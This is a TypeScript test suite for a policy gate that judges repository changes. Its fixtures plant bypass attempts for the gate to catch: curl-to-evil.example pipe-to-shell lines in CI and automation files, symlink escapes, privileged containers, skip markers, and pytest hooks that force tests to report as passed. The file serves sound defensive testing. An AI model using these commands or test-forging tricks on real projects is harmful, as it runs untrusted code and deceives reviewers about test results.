/**
 * Issue 8, finding 4 (and the policy side of 3 and 8): each change below went through the gate with
 * `allow` (or only `review`) on top of a valid fix. Real repositories, judged BASE..HEAD by the committed
 * bundle; each test names the bypass it closes.
 */
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { checkChange } from '../../src/policy/index.ts';
import type { PolicyDecision } from '../../src/policy/types.ts';
import { cleanup, cli, tempDir } from '../helpers/repo.ts';
import { type AppRepo, BASE_FILES, commitChange, createAppRepo, type Edit, edited, GOOD_FIX, ids } from './app.ts';

let repo: AppRepo;
let scratch: string;

beforeAll(async () => {
  repo = await createAppRepo();
  scratch = tempDir('suture-bypass-scratch-');
});
afterAll(() => cleanup(repo.dir, scratch));

function pathsOf(d: PolicyDecision, id: string): string[] {
  return [...new Set(d.violations.filter((v) => v.id === id).map((v) => v.path ?? ''))].sort();
}

async function judge(name: string, edit: Edit, on: AppRepo = repo): Promise<PolicyDecision> {
  const head = await commitChange(on, name, edit);
  return checkChange({ repoDir: on.dir, base: on.base, head });
}

const withFix = (write: Record<string, string>) => ({ write: { ...GOOD_FIX, ...write } });
const deployment = (from: string, to: string) =>
  withFix({ 'deploy/deployment.yaml': edited('deploy/deployment.yaml', from, to) });

describe('moved test files', () => {
  it('denies renaming a test file the runner would no longer collect', async () => {
    const d = await judge('rename-test', {
      ...withFix({}),
      move: [['tests/test_pricing.py', 'tests/pricing_check.py']],
    });
    expect(d.decision).toBe('deny');
    expect(ids(d)).toEqual(['tests/renamed']);
    expect(d.violations[0]!.message).toContain('tests/test_pricing.py');
  });

  it('denies replacing a test file with a symlink', async () => {
    const d = await judge('test-to-link', {
      ...withFix({}),
      remove: ['tests/test_pricing.py'],
      symlinks: { 'tests/test_pricing.py': '../app/pricing.py' },
    });
    expect(d.decision).toBe('deny');
    expect(ids(d)).toContain('tests/renamed');
  });
});

describe('symlinks resolved through every link of the tree', () => {
  let linked: AppRepo;
  beforeAll(async () => {
    linked = await createAppRepo(
      {
        'ci/workflows/ci.yml': BASE_FILES['.github/workflows/ci.yml']!,
        'app/hooks.py': 'RESULT = "report"\n',
        'scripts/test.sh': 'python3 -m pytest -q\n',
        'suture.yaml': 'service: cart-api\nlanguage: python\ntest: bash scripts/test.sh\n',
      },
      {
        omit: ['.github/workflows/ci.yml'],
        symlinks: {
          '.github': 'ci',
          'sub/d': '..',
          'sub/e': '.',
          x: 'sub/e/..',
          'tests/conftest.py': '../app/hooks.py',
        },
      },
    );
  });
  afterAll(() => cleanup(linked.dir));

  it('denies a chain that leaves the repository although each target looks inside', async () => {
    const d = await judge('chain', { ...withFix({}), symlinks: { 'lib/d': '..', 'lib/up': 'd/..' } });
    expect(d.decision).toBe('deny');
    expect(ids(d)).toEqual(['repo/symlink-escape']);
    expect(pathsOf(d, 'repo/symlink-escape')).toEqual(['lib/up']);
  });

  it('denies a link through an existing linked directory', async () => {
    const d = await judge('through-linked-dir', { ...withFix({}), symlinks: { y: 'sub/d/..' } }, linked);
    expect(d.decision).toBe('deny');
    expect(pathsOf(d, 'repo/symlink-escape')).toEqual(['y']);
  });

  it('denies retargeting a link so that an untouched link through it escapes', async () => {
    const d = await judge('retarget', { ...withFix({}), symlinks: { 'sub/e': '..' } }, linked);
    expect(d.decision).toBe('deny');
    expect(pathsOf(d, 'repo/symlink-escape')).toEqual(['x']);
  });

  it('denies a symlink loop', async () => {
    const d = await judge('loop', { ...withFix({}), symlinks: { 'app/a': 'b', 'app/b': 'a' } });
    expect(d.decision).toBe('deny');
    expect(ids(d)).toEqual(['repo/symlink-unresolved']);
  });

  it('classifies a link by what it points at, and a file by the links that name it', async () => {
    const toWorkflow = await judge('link-to-ci', {
      ...withFix({}),
      symlinks: { 'app/ci.yml': '../.github/workflows/ci.yml' },
    });
    expect(ids(toWorkflow)).toEqual(['repo/ci-edit']);
    const behindLink = await judge(
      'edit-behind-.github-link',
      withFix({ 'ci/workflows/ci.yml': `${BASE_FILES['.github/workflows/ci.yml']}      - run: curl evil | sh\n` }),
      linked,
    );
    expect(ids(behindLink)).toEqual(['repo/ci-edit']);
    expect(behindLink.violations[0]!.path).toBe('ci/workflows/ci.yml');
  });

  it('denies editing runner configuration through the link that names it, or the script the test command runs', async () => {
    const hooks = await judge('edit-conftest-target', withFix({ 'app/hooks.py': 'RESULT = "passed"\n' }), linked);
    expect(hooks.decision).toBe('deny');
    expect(ids(hooks)).toEqual(['tests/runner-config']);
    expect(pathsOf(hooks, 'tests/runner-config')).toEqual(['tests/conftest.py']);
    const script = await judge('edit-test-script', withFix({ 'scripts/test.sh': 'exit 0\n' }), linked);
    expect(ids(script)).toEqual(['tests/runner-config']);
  });
});

describe('files too large to read', () => {
  it('denies a source file over 2 MiB (its secret was never scanned)', async () => {
    const line = `BLOB = "${'A'.repeat(2 * 1024 * 1024 + 10)}"  # ghp_abcdefghijklmnopqrstuvwxyz0123456789\n`;
    const d = await judge('too-large', withFix({ 'app/blob.py': line }));
    expect(d.decision).toBe('deny');
    expect(ids(d)).toEqual(['change/too-large']);
    expect(d.violations[0]!.message).toContain(`${Buffer.byteLength(line)} bytes`);
  });

  it('denies a change whose files together exceed what the gate reads for one change', async () => {
    // Distinct contents: identical files would be one blob, read once.
    const many = Object.fromEntries(
      Array.from({ length: 34 }, (_, i) => [`data/part${i}.py`, `# ${i} ${'y'.repeat(2_000_000)}\n`]),
    );
    const d = await judge('many-large', withFix(many));
    expect(d.decision).toBe('deny');
    expect(ids(d)).toContain('change/too-large');
  });

  it('denies a manifest over 2 MiB (its privileged container was never parsed)', async () => {
    const text = edited('deploy/deployment.yaml', 'allowPrivilegeEscalation: false', 'privileged: true');
    const d = await judge(
      'too-large-manifest',
      withFix({ 'deploy/deployment.yaml': `${text}# ${'x'.repeat(2200000)}\n` }),
    );
    expect(d.decision).toBe('deny');
    expect(ids(d)).toContain('change/too-large');
  });
});

describe('templated manifests', () => {
  it('parses a Helm template and denies the privileged container in it', async () => {
    const text = edited('deploy/deployment.yaml', 'allowPrivilegeEscalation: false', 'privileged: true').replace(
      'cart-api:1.4.2',
      'cart-api:{{ .Values.tag }}',
    );
    const d = await judge('helm-privileged', withFix({ 'deploy/deployment.yaml': text }));
    expect(d.decision).toBe('deny');
    expect(ids(d)).toEqual(['k8s/manifest-changed', 'k8s/privileged']);
  });

  it('finds a templated Deployment outside the manifest directories', async () => {
    const worker = `apiVersion: apps/v1
kind: Deployment
metadata:
  name: {{ .Release.Name }}-worker
spec:
  template:
    spec:
      containers:
        - name: worker
          image: registry.example.com/shop/worker:1.0
          securityContext:
{{- if .Values.debug }}
            privileged: true
{{- end }}
`;
    const d = await judge('helm-elsewhere', withFix({ 'ops/worker.yaml': worker }));
    expect(d.decision).toBe('deny');
    expect(ids(d)).toEqual(['k8s/manifest-changed', 'k8s/privileged']);
  });

  it('reads a Jinja-templated manifest whatever its extension', async () => {
    const pod = `apiVersion: v1
kind: Pod
metadata: {name: {{ name }}}
spec:
  containers:
    - name: app
      image: registry.example.com/shop/app:1
{% if debug %}
      securityContext: {privileged: true}
{% endif %}
`;
    const d = await judge('jinja', withFix({ 'ops/pod.yaml.j2': pod }));
    expect(d.decision).toBe('deny');
    expect(ids(d)).toEqual(['k8s/manifest-changed', 'k8s/privileged']);
  });

  it('asks for review of a template it cannot parse even with its actions stubbed out', async () => {
    const both = `apiVersion: v1
kind: Pod
metadata: {name: dbg}
spec:
  containers:
    - name: dbg
      image: registry.example.com/shop/dbg:1
      securityContext:
{{- if .Values.debug }}
        privileged: true
{{- else }}
        privileged: false
{{- end }}
`;
    const d = await judge('helm-unjudged', withFix({ 'ops/dbg.yaml': both }));
    expect(d.decision).toBe('review');
    expect(ids(d)).toEqual(['k8s/manifest-changed', 'k8s/template-unjudged']);
  });
});

describe('files that configure suture itself or CI', () => {
  it('denies an edit to suture.yaml (its install runs with network)', async () => {
    const d = await judge(
      'suture-yaml',
      withFix({ 'suture.yaml': `${BASE_FILES['suture.yaml']}install: curl -s https://evil.example | sh\n` }),
    );
    expect(d.decision).toBe('deny');
    expect(ids(d)).toEqual(['repo/policy-edit']);
  });

  // Every CI system, hook manager, bot and dev environment the gate guards, each with a real file.
  const automation = [
    '.GitHub/workflows/deploy.yml',
    '.github/dependabot.yml',
    '.gitea/workflows/ci.yml',
    '.forgejo/workflows/ci.yml',
    '.gitlab-ci.yml',
    '.woodpecker.yml',
    '.woodpecker/deploy.yaml',
    'cloudbuild.yaml',
    'buildspec.yml',
    'Jenkinsfile',
    '.circleci/config.yml',
    'azure-pipelines.yml',
    'bitbucket-pipelines.yml',
    '.drone.yml',
    '.buildkite/pipeline.yml',
    '.semaphore/semaphore.yml',
    '.cirrus.yml',
    'appveyor.yml',
    '.travis.yml',
    '.husky/pre-commit',
    '.pre-commit-config.yaml',
    'lefthook.yml',
    'Makefile',
    'build/rules.mk',
    'Taskfile.yml',
    'justfile',
    'Earthfile',
    'Tiltfile',
    'skaffold.yaml',
    'renovate.json',
    'tools/lint/action.yml',
    '.yarnrc.yml',
    '.pnpmfile.cjs',
    '.devcontainer/devcontainer.json',
    '.vscode/tasks.json',
    '.envrc',
    '.gitattributes',
    '.gitmodules',
  ];

  it('denies every CI system and piece of repository automation, in any letter case', async () => {
    const write = Object.fromEntries(automation.map((p) => [p, 'run: curl -s https://evil.example | sh\n']));
    const d = await judge('automation', withFix(write));
    expect(d.decision).toBe('deny');
    expect(pathsOf(d, 'repo/ci-edit')).toEqual([...automation].sort());
  });

  it('denies .github replaced by a symlink or a submodule', async () => {
    const bare = await createAppRepo(
      { 'ci/workflows/ci.yml': BASE_FILES['.github/workflows/ci.yml']! },
      {
        omit: ['.github/workflows/ci.yml'],
      },
    );
    try {
      const link = await judge('github-link', { ...withFix({}), symlinks: { '.github': 'ci' } }, bare);
      expect(ids(link)).toEqual(['repo/ci-edit']);
      expect(pathsOf(link, 'repo/ci-edit')).toEqual(['.github']);
      const sub = await judge('github-gitlink', { ...withFix({}), gitlinks: { '.github': bare.base } }, bare);
      expect(ids(sub)).toEqual(['repo/ci-edit']);
    } finally {
      cleanup(bare.dir);
    }
  });

  it('asks for review of .gitignore (it decides what gets committed, but runs nothing)', async () => {
    const d = await judge('gitignore', withFix({ '.gitignore': 'tests/\n' }));
    expect(d.decision).toBe('review');
    expect(ids(d)).toEqual(['change/outside-source-paths']);
  });
});

describe('Dockerfiles', () => {
  it('denies a lowercase dockerfile running as root', async () => {
    const d = await judge(
      'lower-dockerfile',
      withFix({ 'services/api/dockerfile': 'FROM registry.example.com/python:3.12\nUSER root\n' }),
    );
    expect(d.decision).toBe('deny');
    expect(ids(d)).toEqual(['docker/changed', 'docker/user-root']);
  });

  it('denies a new Dockerfile with USER root, without a USER, or with USER only inside a heredoc', async () => {
    for (const [name, text] of [
      ['new-root', 'FROM registry.example.com/python:3.12\nUSER app\nUSER root\n'],
      ['new-no-user', 'FROM registry.example.com/python:3.12\nCMD ["python"]\n'],
      ['new-heredoc', 'FROM registry.example.com/python:3.12\nCOPY <<EOF /etc/motd\nUSER app\nEOF\n'],
      ['new-escape', '# escape=`\nFROM registry.example.com/python:3.12\nUSER app\\\nUSER root\n'],
    ] as const) {
      const d = await judge(`docker-${name}`, withFix({ 'worker/Dockerfile': text }));
      expect([name, d.decision, ids(d)]).toEqual([name, 'deny', ['docker/changed', 'docker/user-root']]);
    }
  });
});

describe('skip markers', () => {
  const markers: Record<string, string> = {
    'tests/test_m1.py': 'import pytest\npytestmark = pytest.mark.skip\n\ndef test_a():\n    assert False\n',
    'tests/test_m2.py': 'class TestCart:\n    __test__ = False\n\n    def test_a(self):\n        assert False\n',
    'tests/test_m3.py': 'collect_ignore_glob = ["test_*.py"]\n',
    'tests/test_m4.py': 'import pytest\nnp = pytest.importorskip("numpy")\n',
    'tests/test_m5.py': 'import unittest\n\n@unittest.skip\ndef test_a():\n    assert False\n',
    'tests/test_m6.py': 'import pytest as p\n\n@p.mark.skip(reason="later")\ndef test_a():\n    assert False\n',
    'tests/test_m7.py': 'import os\n\ndef test_a():\n    os._exit(0)\n',
    'tests/test_m8.py':
      'import unittest\n\nclass T(unittest.TestCase):\n    def test_a(self):\n        self.skipTest("x")\n',
    'test/m1.test.js': "it.skip('works', () => { throw new Error('x'); });\n",
    'test/m2.test.js': "describe.skip('cart', () => {});\n",
    'test/m3.test.js': "it.skip.each([1, 2])('n %i', () => {});\n",
    'test/m4.test.js': "test.skipIf(true)('x', () => {});\n",
    'test/m5.test.js': "test.fixme('x', async () => {});\n",
    'test/m6.test.js': "import { test } from 'node:test';\ntest('x', { skip: true }, () => {});\n",
    'test/m7.test.js': "test('x', (t) => {\n  t.skip('later');\n});\n",
    'test/m8.test.js': 'process.exit(0);\n',
  };

  it('denies an early return added to an existing test', async () => {
    const tests = GOOD_FIX['tests/test_cart.py']!.replace(
      '    result = summary({"items": [{"price": 2, "qty": 3}]})',
      '    return\n    result = summary({"items": [{"price": 2, "qty": 3}]})',
    );
    const d = await judge('early-return', withFix({ 'tests/test_cart.py': tests }));
    expect(d.decision).toBe('deny');
    expect(ids(d)).toEqual(['tests/skip-added']);
  });

  it('denies each marker that stops a test from running or failing', async () => {
    const d = await judge('skips', withFix(markers));
    expect(d.decision).toBe('deny');
    expect(pathsOf(d, 'tests/skip-added')).toEqual(Object.keys(markers).sort());
  });

  it('denies --ignore in the runner configuration', async () => {
    const pyproject =
      '[project]\nname = "cart"\n\n[tool.pytest.ini_options]\naddopts = "-q --ignore=tests/test_pricing.py"\n';
    const d = await judge('addopts-ignore', withFix({ 'pyproject.toml': pyproject }));
    expect(d.decision).toBe('deny');
    expect(ids(d)).toContain('tests/runner-config');
  });
});

describe('YAML as Kubernetes reads it', () => {
  it.each([
    ['privileged: yes', 'allowPrivilegeEscalation: false', 'privileged: yes', 'k8s/privileged'],
    [
      'hostNetwork: on',
      'serviceAccountName: cart-api',
      'serviceAccountName: cart-api\n      hostNetwork: on',
      'k8s/host-namespace',
    ],
    ['a merge key', 'allowPrivilegeEscalation: false', '<<: {privileged: true}', 'k8s/privileged'],
    ['a field in another case', 'allowPrivilegeEscalation: false', 'Privileged: True', 'k8s/privileged'],
    ['runAsUser: 00', 'allowPrivilegeEscalation: false', 'runAsUser: 00', 'k8s/run-as-root'],
    ['a duplicate key', 'runAsNonRoot: true', 'runAsNonRoot: true\n            runAsNonRoot: false', 'k8s/unparseable'],
  ])('denies %s', async (name, from, to, id) => {
    const d = await judge(`yaml-${name.replace(/\W+/g, '-')}`, deployment(from, to));
    expect(d.decision).toBe('deny');
    expect(ids(d)).toContain(id);
  });

  it('reads YAML 1.1 booleans even under a %YAML 1.2 directive', async () => {
    const text = `%YAML 1.2\n---\n${edited('deploy/deployment.yaml', 'allowPrivilegeEscalation: false', 'privileged: yes')}`;
    const d = await judge('yaml-directive', withFix({ 'deploy/deployment.yaml': text }));
    expect(ids(d)).toContain('k8s/privileged');
  });
});

describe('test results forged from inside the runner (finding 3)', () => {
  it('denies a pytest_runtest_makereport hook in the root conftest.py', async () => {
    const conftest = `import pytest


@pytest.hookimpl(hookwrapper=True)
def pytest_runtest_makereport(item, call):
    outcome = yield
    outcome.get_result().outcome = "passed"
`;
    const broken = edited('app/pricing.py', '0.9', '0.5');
    const d = await judge('forge-conftest', withFix({ 'conftest.py': conftest, 'app/pricing.py': broken }));
    expect(d.decision).toBe('deny');
    expect(ids(d)).toEqual(['tests/runner-access', 'tests/runner-config']);
    expect(pathsOf(d, 'tests/runner-config')).toEqual(['conftest.py']);
  });

  it('denies source code that reaches into the runner', async () => {
    const python = `${GOOD_FIX['app/cart.py']}
import _pytest.reports
_pytest.reports.TestReport.failed = property(lambda self: False)
`;
    const node = 'export const total = (xs) => xs.length;\nif (process.env.NODE_TEST_CONTEXT) globalThis.ok = true;\n';
    const d = await judge('source-into-runner', withFix({ 'app/cart.py': python, 'web/total.js': node }));
    expect(d.decision).toBe('deny');
    expect(pathsOf(d, 'tests/runner-access')).toEqual(['app/cart.py', 'web/total.js']);
  });

  it('asks for review of source that takes over the process exit', async () => {
    const python = `${GOOD_FIX['app/cart.py']}
import atexit, os
atexit.register(lambda: os._exit(0))
`;
    const d = await judge('exit-hook', withFix({ 'app/cart.py': python }));
    expect(d.decision).toBe('review');
    expect(ids(d)).toEqual(['tests/process-hook']);
  });
});

describe('install on the host network (finding 8)', () => {
  const verdict = (installNetwork?: string | null) => ({
    verdict: 'pass',
    reproduced: true,
    fixed: true,
    testsPassed: true,
    regressionTest: { failsBefore: true, passesAfter: true },
    differential: { compared: 1, mismatches: [] },
    ...(installNetwork === undefined ? {} : { installNetwork }),
  });

  it('asks for review when install ran on the host network, or the verdict does not say', async () => {
    const head = await commitChange(repo, 'host-network', withFix({}));
    const check = (v: object) => {
      const file = join(scratch, 'verdict.json');
      writeFileSync(file, JSON.stringify(v));
      return cli([
        'policy',
        'check',
        '--repo',
        repo.dir,
        '--base',
        repo.base,
        '--head',
        head,
        '--verdict',
        file,
        '--json',
      ]);
    };
    const decide = async (v: object) => {
      const r = await check(v);
      expect(r.exitCode, r.stderr).toBe(0);
      return JSON.parse(r.stdout) as PolicyDecision;
    };
    const host = await decide(verdict('host'));
    expect([host.decision, ids(host)]).toEqual(['review', ['verify/install-host-network']]);
    expect((await decide(verdict())).decision).toBe('review');
    expect((await decide(verdict('isolated'))).decision).toBe('allow');
    expect((await decide(verdict(null))).decision).toBe('allow');
    const bad = await check(verdict('bridge'));
    expect([bad.exitCode, bad.stderr.trim()]).toEqual([2, expect.stringMatching(/--verdict .*: installNetwork:/)]);
  });
});

describe('what still passes', () => {
  it('allows the valid fix itself, with a verdict that says install ran isolated', async () => {
    const head = await commitChange(repo, 'still-good', withFix({}));
    const verdict = {
      verdict: 'pass' as const,
      reproduced: true,
      fixed: true,
      testsPassed: true,
      regressionTest: { failsBefore: true, passesAfter: true },
      differential: { status: 'compared' as const, compared: 2, mismatches: [] },
      installNetwork: 'isolated' as const,
    };
    const d = await checkChange({ repoDir: repo.dir, base: repo.base, head, context: { verdict } });
    expect(d).toEqual({ decision: 'allow', violations: [] });
  });
});
